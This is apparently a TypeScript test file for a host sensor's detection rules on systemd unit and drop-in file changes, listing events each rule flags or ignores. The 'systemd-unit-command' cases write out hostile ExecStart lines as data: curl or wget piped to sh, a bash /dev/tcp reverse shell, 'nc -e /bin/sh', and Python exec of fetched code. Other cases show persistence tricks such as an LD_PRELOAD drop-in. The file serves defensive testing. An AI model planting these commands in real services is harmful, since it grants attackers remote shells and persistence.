/** Each companion rule over documents: what it is for, and what is like it and harmless. The documents are as the sensor gives them (test/system/companions.test.ts has them for real). */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { classify } from '../../src/host/directories.ts';
import { factsOfUnit } from '../../src/host/unit-facts.ts';
import type { FileEvent } from '../../src/model/event.ts';
import { PLAYBOOKS } from '../../src/playbooks/files.ts';
import { readRule } from '../../src/playbooks/rules.ts';
import { endedNote } from '../../src/sensor/attributed.ts';
import { fileEvent } from '../helpers/events.ts';

interface Change {
  action?: FileEvent['event']['action'];
  /** Of the program; null for a process that is not known. */
  by?: string | null;
  command?: string;
  /** Executables or command lines of the processes above. */
  above?: string[];
  /** What the unit says. */
  says?: string;
  /** Where a link leads. */
  target?: string;
  /** The content was not read. */
  unread?: true;
  source?: FileEvent['tickward']['source'];
  /** Why nobody is named. */
  note?: string;
}

const SHELL = '/usr/bin/dash';
const SYSTEMD = '/usr/lib/systemd/systemd';
const SYSTEMCTL = '/usr/bin/systemctl';
const DPKG = '/usr/bin/dpkg';
/** A maintainer script of a package, and what it runs. */
const POSTINST = { by: SHELL, command: '/bin/sh /var/lib/dpkg/info/x.postinst configure ', above: [DPKG, SHELL] };
const HELPER = { by: SYSTEMCTL, command: 'systemctl --root=/ --system --preset-mode=enable-only preset x.timer', above: ['/usr/bin/perl', '/bin/sh /var/lib/dpkg/info/x.postinst configure ', DPKG, SHELL] };

const RUNS = '[Service]\nExecStart=/usr/bin/job\n';
const SCHEDULE = '[Timer]\nOnCalendar=hourly\n';
const runs = (command: string): Change => ({ says: `[Service]\nExecStart=${command}\n` });

/** Of a process that had ended. */
const nameless = (hasMap: boolean, what = 'it', before = ''): Change => ({ by: null, note: before + endedNote(7, what, hasMap) });
const OF_DIRECTORY = 'found when its directory appeared or went; ';

/** Longest first, as the sensor knows them. */
const UNIT_DIRECTORY = /^(?:.*\/\.(?:config|local\/share)\/systemd\/user(?:\.control)?|\/run\/user\/\d+\/systemd\/[^/]+|\/(?:etc|run|usr\/lib|lib|usr\/local\/lib|usr\/local\/share|usr\/share|etc\/xdg)\/systemd\/[^/]+)/;

function documentOf(path: string, { action, by = SHELL, command, above = [], says, target, unread, source = 'fanotify', note }: Change): FileEvent {
  const directory = UNIT_DIRECTORY.exec(path)?.[0] ?? '';
  const { process, ...event } = fileEvent({ path, ...(action === undefined ? {} : { action }) });
  const facts = says === undefined ? undefined : factsOfUnit(Buffer.from(says));
  return {
    ...event,
    file: { ...event.file, ...(target !== undefined ? { type: 'symlink', target_path: target } : unread ? {} : { hash: { sha256: 'e3b0' } }) },
    ...(by === null || process === undefined ? {} : { process: { pid: process.pid, executable: by, name: by.slice(by.lastIndexOf('/') + 1), command_line: command ?? by } }),
    tickward: {
      ...event.tickward,
      source,
      ...(note === undefined ? {} : { attribution_note: note }),
      ...classify({ kind: directory.endsWith('-generators') ? 'generators' : 'units' }, path.slice(directory.length + 1)),
      ancestry: above.map((each, index) => (each.includes(' ') ? { pid: index + 1, command_line: each } : { pid: index + 1, executable: each })),
      ...(facts === undefined ? {} : { directives: facts.directives, commands: facts.commands, ...(facts.isCut ? { content_cut: true } : {}) }),
    },
  };
}

type Case = [path: string, change: Change];

const CASES: Record<string, { told: Case[]; silent: Case[] }> = {
  'systemd-timer-transient': {
    told: [
      ['/run/systemd/transient/run-r12.timer', { by: SYSTEMD }],
      ['/run/user/1000/systemd/transient/x.timer', { by: SYSTEMD }],
      ['/run/systemd/transient/x.timer', { by: null }],
    ],
    silent: [
      ['/run/systemd/transient/run-u1.service', { by: SYSTEMD }],
      ['/run/systemd/transient/session-2.scope', { by: SYSTEMD }],
      ['/run/systemd/transient/x.timer', { action: 'deletion', by: SYSTEMD }],
      ['/etc/systemd/system/x.timer', {}],
    ],
  },
  'systemd-unit-modified': {
    told: [
      ['/usr/lib/systemd/system/logrotate.service', { action: 'modification', says: RUNS }],
      ['/etc/systemd/system/x.timer', { action: 'modification', by: '/usr/bin/nano' }],
      ['/srv/svc/.config/systemd/user/x.service', { action: 'modification' }],
      ['/run/systemd/transient/x.service', { action: 'modification' }],
    ],
    silent: [
      ['/etc/systemd/system/x.timer', {}],
      ['/etc/systemd/system/x.timer', { action: 'modification', by: null }],
      ['/etc/systemd/system/x.timer', { action: 'modification', by: DPKG }],
      ['/etc/systemd/system/x.service', { action: 'modification', ...POSTINST }],
      ['/etc/systemd/system/.x.service', { action: 'modification' }],
      ['/etc/systemd/system/x.timer', { action: 'modification', by: '/usr/sbin/restorecon' }],
      ['/run/systemd/generator/x.service', { action: 'modification' }],
      ['/etc/systemd/system/notes.txt', { action: 'modification' }],
    ],
  },
  'systemd-unit-drop-in': {
    told: [
      ['/etc/systemd/system/logrotate.timer.d/override.conf', { action: 'rename', by: SYSTEMCTL, command: 'systemctl edit logrotate.timer', says: SCHEDULE }],
      ['/etc/systemd/system/ssh.service.d/x.conf', { says: '[Service]\nExecStartPre=/usr/local/bin/x\n' }],
      ['/etc/systemd/system/service.d/x.conf', { says: '[Service]\nEnvironment="LD_PRELOAD=/usr/lib/x.so"\n' }],
      ['/run/systemd/system/a.service.d/x.conf', { says: '[Unit]\nOnFailure=evil.service\n' }],
      ['/etc/systemd/system/a.service.d/x.conf', { target: '/tmp/x.conf' }],
      ['/etc/systemd/system/a.service.d/x.conf', { unread: true }],
      ['/etc/systemd/system/a.service.d/x.conf', { says: `${'#'.repeat(40_000)}\n[Service]\nExecStart=/usr/bin/job\n` }],
    ],
    silent: [
      ['/etc/systemd/system/a.service.d/x.conf', { says: '[Service]\nCPUQuota=10%\nMemoryMax=1G\n' }],
      ['/etc/systemd/system/a.timer.d/.#override.conf0123', { says: SCHEDULE }],
      ['/etc/systemd/system/a.timer.d/x.conf.bak', { says: SCHEDULE }],
      ['/usr/lib/systemd/system/a.timer.d/x.conf', { action: 'rename', by: DPKG, says: SCHEDULE }],
      ['/etc/systemd/system/a.timer.d/x.conf', { ...POSTINST, says: SCHEDULE }],
      ['/etc/systemd/system.control/a.service.d/50-CPUQuota.conf', { by: SYSTEMD, says: '[Service]\nCPUQuota=10%\n' }],
      ['/run/systemd/transient/session-1.scope.d/50-Wants.conf', { by: SYSTEMD, says: '[Unit]\nWants=user-runtime-dir@0.service\n' }],
      ['/run/systemd/generator/a.service.d/x.conf', { says: RUNS }],
      ['/etc/systemd/system/a.timer.d/x.conf', { by: null, says: SCHEDULE }],
      ['/etc/systemd/system/a.service.d/x.conf', { target: '/dev/null' }],
    ],
  },
  'systemd-unit-unattributed': {
    told: [
      ['/etc/systemd/system/x.timer', { by: null }],
      ['/etc/systemd/system/x.timer', { by: null, source: 'scan' }],
      ['/home/alice/.config/systemd/user/x.service', { action: 'rename', by: null }],
      ['/usr/lib/systemd/system/logrotate.timer', { action: 'modification', by: null, source: 'inotify' }],
      ['/etc/systemd/system/a.timer.d/x.conf', { by: null, says: SCHEDULE }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { by: null, target: '../x.timer' }],
      ['/etc/systemd/system-generators/x', { by: null }],
      ['/run/systemd/system/x.service', { by: null }],
      ['/etc/systemd/system/x.timer', nameless(true)],
      ['/etc/systemd/system/timers.target.wants/x.timer', { ...nameless(true, 'its program', OF_DIRECTORY), source: 'scan' }],
    ],
    silent: [
      ['/etc/systemd/system/x.timer', {}],
      ['/etc/systemd/system/x.timer', { by: DPKG }],
      ['/etc/systemd/system/x.timer', nameless(false)],
      ['/etc/systemd/system/x.timer', nameless(false, 'its program')],
      ['/etc/systemd/system/timers.target.wants/x.timer', { ...nameless(false, 'it', OF_DIRECTORY), source: 'scan' }],
      ['/etc/systemd/system/x.timer', { action: 'deletion', by: null }],
      ['/etc/systemd/system/.#x.timer0123', { by: null }],
      ['/etc/systemd/system/a.timer.d/x.conf.bak', { by: null }],
      ['/etc/systemd/system/notes.txt', { by: null }],
      ['/run/systemd/system/netplan-ovs.service', { by: null, source: 'scan' }],
      ['/run/systemd/generator/x.service', { by: null }],
      ['/run/systemd/transient/run-u1.service', { by: null }],
    ],
  },
  'systemd-unit-wants-link': {
    told: [
      ['/etc/systemd/system/multi-user.target.wants/x.service', { by: '/usr/bin/ln', target: '/etc/systemd/system/x.service' }],
      ['/etc/systemd/system/ssh.service.requires/x.timer', { by: '/usr/bin/cp', target: '../x.timer' }],
      ['/home/alice/.config/systemd/user/default.target.wants/x.service', { by: '/usr/bin/python3.11', target: '../x.service' }],
      ['/run/systemd/system/timers.target.upholds/x.timer', { target: '/run/x.timer' }],
    ],
    silent: [
      ['/etc/systemd/system/timers.target.wants/x.timer', { by: SYSTEMD, target: '/lib/systemd/system/x.timer' }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { by: SYSTEMCTL, target: '/lib/systemd/system/x.timer' }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { ...HELPER, target: '/lib/systemd/system/x.timer' }],
      ['/usr/lib/systemd/system/timers.target.wants/x.timer', { action: 'rename', by: DPKG, target: '../x.timer' }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { ...POSTINST, by: '/usr/bin/ln', command: 'ln -s a b', above: ['/bin/sh /var/lib/dpkg/info/x.postinst configure', DPKG], target: 'x' }],
      ['/run/systemd/generator/getty.target.wants/console-getty.service', { by: '/usr/lib/systemd/system-generators/systemd-getty-generator', target: '/lib/systemd/system/console-getty.service' }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { action: 'deletion' }],
      ['/etc/systemd/system/timers.target.wants/x.timer', { by: null, target: '../x.timer' }],
      ['/etc/systemd/system/x.timer', {}],
    ],
  },
  'systemd-generator-dropped': {
    told: [
      ['/etc/systemd/system-generators/x', {}],
      ['/usr/local/lib/systemd/user-generators/x', { action: 'rename', by: '/usr/bin/mv' }],
      ['/usr/lib/systemd/system-generators/systemd-fstab-generator', { action: 'modification' }],
      ['/etc/systemd/system-environment-generators/x', { target: '/tmp/x' }],
    ],
    silent: [
      ['/usr/lib/systemd/system-generators/x', { action: 'rename', by: DPKG }],
      ['/etc/systemd/system-generators/x', POSTINST],
      ['/etc/systemd/system-generators/systemd-gpt-auto-generator', { by: '/usr/bin/ln', target: '/dev/null' }],
      ['/etc/systemd/system-generators/x', { by: null }],
      ['/etc/systemd/system-generators/x', { action: 'deletion' }],
      ['/etc/systemd/system/x', {}],
    ],
  },
  'systemd-unit-unusual-directory': {
    told: [
      ['/usr/local/lib/systemd/user/x.service', {}],
      ['/etc/xdg/systemd/user/x.timer', {}],
      ['/srv/svc/.config/systemd/user/x.timer', {}],
      ['/home/alice/.config/systemd/user.control/x.service', {}],
      ['/run/systemd/system/x.service', { by: '/usr/bin/cp' }],
      ['/run/user/1000/systemd/user/x.timer', {}],
      ['/run/systemd/transient/x.timer', {}],
      ['/run/systemd/generator/x.service', {}],
      ['/etc/systemd/system/linked.service', { by: SYSTEMD, target: '/tmp/linked.service' }],
      ['/etc/systemd/system/x.timer', { by: '/usr/bin/ln', target: '../../../tmp/systemd/system/x.timer' }],
    ],
    silent: [
      ['/etc/systemd/system/x.service', {}],
      ['/home/alice/.config/systemd/user/x.timer', {}],
      ['/root/.local/share/systemd/user/x.timer', {}],
      ['/run/systemd/transient/run-u1.service', { by: SYSTEMD }],
      ['/run/systemd/generator.late/x.service', { by: '/usr/lib/systemd/system-generators/systemd-sysv-generator' }],
      ['/run/systemd/generator/x.service', { by: SHELL, command: '/bin/sh /usr/lib/systemd/system-generators/cloud-init-generator a b c' }],
      ['/run/systemd/system/netplan-eth0.service', { by: '/usr/libexec/netplan/generate' }],
      ['/usr/share/systemd/user/x.service', { action: 'rename', by: DPKG }],
      ['/etc/systemd/system/dbus-org.x.service', { by: SYSTEMD, target: '/lib/systemd/system/x.service' }],
      ['/etc/systemd/system/alias.service', { by: '/usr/bin/ln', target: 'x.service' }],
      ['/run/systemd/system.control/x.timer', { by: '/usr/bin/node', target: '/dev/null' }],
      ['/usr/local/lib/systemd/user/x.service', { by: null }],
    ],
  },
  'systemd-unit-excluded-name': {
    told: [
      ['/etc/systemd/system/x.timer', { by: '/tmp/python3' }],
      ['/home/alice/.config/systemd/user/x.service', { by: '/home/alice/bin/python3.11' }],
      ['/etc/systemd/system/x.timer', { by: '/dev/shm/sshd' }],
      ['/etc/systemd/system/x.timer', { action: 'rename', by: '/tmp/vmis.abc/x' }],
    ],
    silent: [
      ['/etc/systemd/system/x.timer', { by: '/usr/bin/python3.11' }],
      ['/etc/systemd/system/x.timer', { by: '/usr/local/bin/cloudflared' }],
      ['/etc/systemd/system/x.timer', { by: '/opt/saltstack/salt/bin/python3.10' }],
      ['/etc/systemd/system/x.timer', { by: '/usr/bin/apt-get' }],
      ['/etc/systemd/system/x.timer', { by: '/tmp/evil' }],
      ['/etc/systemd/system/x.timer', { by: null }],
      ['/etc/systemd/system/x.conf', { by: '/tmp/python3' }],
    ],
  },
  'systemd-service-created': {
    told: [
      ['/etc/systemd/system/x.service', { says: RUNS }],
      ['/usr/local/lib/systemd/system/x.service', { by: '/usr/bin/python3.11' }],
      ['/home/alice/.config/systemd/user/x@.service', { action: 'rename', by: '/usr/bin/mv' }],
      ['/etc/systemd/system/x.service', { by: '/usr/bin/ln', target: '/opt/x.service' }],
    ],
    silent: [
      ['/etc/systemd/system/x.timer', {}],
      ['/usr/lib/systemd/system/x.service', { action: 'rename', by: DPKG }],
      ['/etc/systemd/system/x.service', POSTINST],
      ['/etc/systemd/system/dbus-org.x.service', { by: SYSTEMD, target: '/lib/systemd/system/x.service' }],
      ['/etc/systemd/system/x.service', { by: '/usr/bin/ln', target: '/dev/null' }],
      ['/run/systemd/transient/run-u1.service', { by: SYSTEMD }],
      ['/etc/systemd/system/x.service', { action: 'modification' }],
      ['/etc/systemd/system/x.service', { by: null }],
      ['/etc/systemd/system/multi-user.target.wants/x.service', { by: '/usr/bin/ln', target: '../x.service' }],
      ['/etc/systemd/system/.#x.service', { by: '/usr/bin/emacs', target: 'alice@host.1' }],
    ],
  },
  'systemd-unit-command': {
    told: [
      ...['/tmp/x', '-/var/tmp/.x/y --quiet', '"/dev/shm/a b"', '/bin/true ; /tmp/x', '%T/x', '/bin/sh /tmp/x.sh', '/usr/bin/env A=b /usr/bin/python3 -u /tmp/x.py', '/usr/bin/nice -n 5 /tmp/x', '/usr/bin/ionice -c3 /tmp/x', '/lib64/ld-linux-x86-64.so.2 /dev/shm/x', '/bin/bash -c "cd / && /tmp/x"', "/bin/sh -c 'exec /tmp/x'", '/bin/sh -c /tmp/x', '/bin/sh -ec "chmod +x /tmp/x; /tmp/x"'].map((command): Case => ['/etc/systemd/system/x.service', runs(command)]),
      ...['/usr/bin/curl -fsS https://example.org/x', '/bin/sh -c "wget -qO- example.org|sh"', "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'", '/bin/nc -e /bin/sh 192.0.2.1 1', '/bin/sh -c "echo aWQ= | base64 -d | sh"', '/usr/bin/python3 -c "import urllib.request as u; exec(u.urlopen(\'http://example.org/\').read())"', '/bin/sh -c "$(curl example.org)"'].map((command): Case => ['/home/alice/.config/systemd/user/x.service', runs(command)]),
      ['/run/systemd/transient/run-u1.service', { by: SYSTEMD, ...runs('"/bin/sh" "-c" "curl x | sh"') }],
      ['/etc/systemd/system/ssh.service.d/x.conf', runs('/tmp/x')],
      ['/etc/systemd/system/x.service', { by: null, ...runs('/tmp/x') }],
      ['/etc/systemd/system/x.service', { action: 'modification', says: '[Service]\nExecSearchPath=/tmp\nExecStart=x\n' }],
      ['/etc/systemd/system/x.service', { says: `[Service]\n${'ExecStartPre=/bin/true\n'.repeat(40)}ExecStart=/tmp/x\n` }],
    ],
    silent: [
      ...['/usr/bin/job', '/usr/bin/job --cache=/tmp/job --log /var/tmp/job.log', '/bin/sh -c "date >> /tmp/log"', '/bin/sh -c "rm -f /tmp/x"', '/usr/bin/find /tmp -mtime +1 -delete', '/usr/bin/rsync -a host:/x /srv/x', '/usr/bin/flock /tmp/lock /usr/bin/job', '/usr/bin/job --announce --sync now', '/usr/bin/exporter --url https://example.org/', '/usr/bin/systemd-tmpfiles --clean', '/usr/sbin/curlew start', '/usr/bin/python3 /opt/app/main.py', '/lib/systemd/systemd-hibernate-resume /tmpfs'].map((command): Case => ['/etc/systemd/system/x.service', runs(command)]),
      ['/usr/lib/systemd/system/x.service', { action: 'rename', by: DPKG, ...runs('/usr/bin/curl x') }],
      ['/etc/systemd/system/x.service', { ...POSTINST, ...runs('/tmp/x') }],
      ['/etc/systemd/system/x.service', { action: 'deletion' }],
      ['/etc/systemd/system/x.timer', { says: SCHEDULE }],
    ],
  },
};

test('every companion has its cases', () => {
  expect([...Object.keys(CASES), 'systemd-timer-created'].sort()).toEqual(readdirSync(PLAYBOOKS).sort());
});

describe.each(Object.entries(CASES))('%s', (name, { told, silent }) => {
  const { run } = readRule(join(PLAYBOOKS, name, 'rule.toml'));
  const matches = (path: string, change: Change): boolean => run.runs && run.matches(documentOf(path, change));

  test.each(told)('tells %s, %j', (path, change) => {
    expect(matches(path, change)).toBe(true);
  });

  test.each(silent)('is silent on %s, %j', (path, change) => {
    expect(matches(path, change)).toBe(false);
  });
});
